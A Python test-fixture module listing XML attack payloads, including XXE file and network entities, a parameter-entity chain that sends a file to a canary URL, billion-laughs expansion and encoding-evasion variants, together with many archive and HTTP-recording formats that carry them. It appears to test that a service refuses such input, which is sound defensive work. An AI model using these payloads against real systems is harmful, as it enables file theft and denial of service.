"""Attacks that a document can carry, and every format that can carry a document."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from hostile.canary import Canary
from support.traffic import (
    ASKED,
    GOOD,
    Call,
    har,
    journal,
    json_lines,
    mappings,
    raw_http,
    ruby_vcr,
    tar_gz,
    tarred,
    vcrpy,
    zipped,
)

Attack = Callable[[bytes, Canary], bytes]
"""Puts an attack into a message, which leads to a canary."""


def _declared(declaration: str, use: str = "") -> Attack:
    """A document type before the root, and what uses it, in the first text."""

    def attack(message: bytes, canary: Canary) -> bytes:
        filled = declaration.replace("FILE", canary.path.as_uri()).replace("URL", canary.url)
        return filled.encode() + (message.replace(b">x<", f">{use}<".encode(), 1) if use else message)

    return attack


def _inside(element: str, before: bytes) -> Attack:
    """Something that is put into the message before a place."""

    def attack(message: bytes, canary: Canary) -> bytes:
        filled = element.replace("FILE", canary.path.as_uri()).replace("URL", canary.url)
        return message.replace(before, filled.encode() + before, 1)

    return attack


def _laughs(_message: bytes, _canary: Canary) -> bytes:
    entities = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    return f"<!DOCTYPE m [<!ENTITY a0 'ha'>{entities}]>".encode() + _message.replace(b">x<", b">&a11;<", 1)


def _encoded(encoding: str, attack: Attack, declaration: str = "") -> Attack:
    """An attack in another encoding, so that nothing that looks for ASCII sees it."""

    def encoded(message: bytes, canary: Canary) -> bytes:
        return (declaration + attack(message, canary).decode()).encode(encoding)

    return encoded


_EXTERNAL = _declared('<!DOCTYPE m [<!ENTITY e SYSTEM "FILE">]>', "&e;")

REFUSED: dict[str, Attack] = {
    "an internal entity": _declared('<!DOCTYPE m [<!ENTITY e "v">]>', "&e;"),
    "an external entity": _EXTERNAL,
    "an external entity of the network": _declared('<!DOCTYPE m [<!ENTITY e SYSTEM "URL">]>', "&e;"),
    "a public entity": _declared('<!DOCTYPE m [<!ENTITY e PUBLIC "p" "FILE">]>', "&e;"),
    "an entity in an attribute": _declared('<!DOCTYPE m [<!ENTITY e "v"><!ATTLIST m a CDATA "&e;">]>'),
    "a parameter entity": _declared('<!DOCTYPE m [<!ENTITY % p SYSTEM "FILE"> %p;]>'),
    "a parameter entity of the network": _declared('<!DOCTYPE m [<!ENTITY % p SYSTEM "URLp"> %p;]>'),
    "parameter entities that carry a file off": _declared(
        "<!DOCTYPE m [<!ENTITY % f SYSTEM 'FILE'><!ENTITY % w \"<!ENTITY &#37; o SYSTEM 'URL?%f;'>\"> %w; %o;]>"
    ),
    "an external DTD": _declared('<!DOCTYPE m SYSTEM "FILE">'),
    "an external DTD of the network": _declared('<!DOCTYPE m SYSTEM "URLd">'),
    "a notation": _declared('<!DOCTYPE m [<!NOTATION n SYSTEM "FILE"><!ENTITY e SYSTEM "FILE" NDATA n>]>'),
    "a DTD that stands alone": _declared('<?xml version="1.0" standalone="no"?><!DOCTYPE m SYSTEM "FILE">'),
    "a billion laughs": _laughs,
}
"""Attacks that are refused in every place: no message of the service has a document type."""

REFUSED_AS_BYTES: dict[str, Attack] = {
    "in UTF-16": _encoded("utf-16", _EXTERNAL),
    "in UTF-16 without a mark": _encoded("utf-16-le", _EXTERNAL, '<?xml version="1.0" encoding="UTF-16LE"?>'),
    "in UTF-32": _encoded("utf-32", _EXTERNAL),
}
"""The same in encodings that only bytes can have."""

INERT: dict[str, Attack] = {
    "XInclude of a file": _inside(
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="FILE" parse="text"/>', b"<ep:status>"
    ),
    "XInclude of the network": _inside(
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="URLx"><i:fallback/></i:include>',
        b"<ep:status>",
    ),
    "a schema": _inside(
        ' xsi:schemaLocation="urn:x FILE urn:y URLs" xsi:noNamespaceSchemaLocation="FILE"', b">\n<serv:header"
    ),
    "a stylesheet": _inside(
        '<?xml-stylesheet type="text/xsl" href="FILE"?><?xml-stylesheet href="URLt"?>', b"<serv:message"
    ),
    "a model": _inside('<?xml-model href="FILE"?><?oxygen RNGSchema="URLm"?>', b"<serv:message"),
    "a base and links": _inside(
        '<ep:x xml:base="FILE" xmlns:l="http://www.w3.org/1999/xlink" l:href="URLl" src="FILE"/>',
        b"<ep:status>",
    ),
    "a vocabulary that is an address": _inside('<x xmlns="URLn"/>', b"<ep:status>"),
}
"""Attacks that are read as plain elements, attributes and instructions, and lead nowhere."""


@dataclass(frozen=True, slots=True)
class Carrier:
    """A format: the end of its files' names, how a call is put into one, and whether it keeps bytes as they are."""

    ending: str
    pack: Callable[[Call], bytes]
    keeps_bytes: bool = True


def _members(call: Call) -> list[tuple[str, bytes]]:
    return [("d/a.response.xml", call.response), ("d/a.request.xml", call.request)]


def _file_of_mapping(call: Call) -> bytes:
    mapping = (
        b'{"request": {"bodyPatterns": [{"equalTo": %s}]}, "response": {"status": 200, "bodyFileName": "a"}}'
    )
    return zipped(
        [
            ("mappings/a.json", mapping % json.dumps(call.request.decode()).encode()),
            ("__files/a", call.response),
        ]
    )


def _one(pack: Callable[[tuple[Call, ...]], bytes]) -> Callable[[Call], bytes]:
    return lambda call: pack((call,))


CARRIERS: dict[str, Carrier] = {
    "plain XML": Carrier(".xml", lambda call: call.response),
    "gzip": Carrier(".gz.xml", lambda call: gzip.compress(call.response)),
    "raw HTTP": Carrier(".http", raw_http),
    "raw HTTP, packed": Carrier(
        ".http", lambda call: raw_http(Call(gzip.compress(call.response)), b"Content-Encoding: gzip\r\n")
    ),
    "HAR": Carrier(".har", _one(har), keeps_bytes=False),
    "HAR, base64": Carrier(".har", _one(partial(har, as_base64=True))),
    "vcrpy": Carrier(".yaml", _one(vcrpy), keeps_bytes=False),
    "vcrpy, packed": Carrier(".yaml", _one(partial(vcrpy, packed=True))),
    "Ruby VCR": Carrier(".yml", _one(ruby_vcr), keeps_bytes=False),
    "Ruby VCR, base64": Carrier(".yml", _one(partial(ruby_vcr, as_base64=True))),
    "WireMock's journal": Carrier(".json", _one(journal), keeps_bytes=False),
    "WireMock's journal, base64": Carrier(".json", _one(partial(journal, as_base64=True))),
    "WireMock's mappings": Carrier(".json", _one(mappings), keeps_bytes=False),
    "WireMock's mappings, base64": Carrier(".json", _one(partial(mappings, as_base64=True))),
    "WireMock's files": Carrier(".zip", _file_of_mapping),
    "JSON Lines": Carrier(".jsonl", _one(json_lines), keeps_bytes=False),
    "zip": Carrier(".zip", lambda call: zipped(_members(call))),
    "tar": Carrier(".tar", lambda call: tarred(_members(call))),
    "tar.gz": Carrier(".tgz", lambda call: tar_gz(_members(call))),
}
"""Every format that can carry the body of a response."""

WITH_REQUEST = sorted(CARRIERS.keys() - {"plain XML", "gzip", "raw HTTP", "raw HTTP, packed"})
"""Those that hold the request too, and not in a file beside them."""

SOUND = Call(GOOD, ASKED)
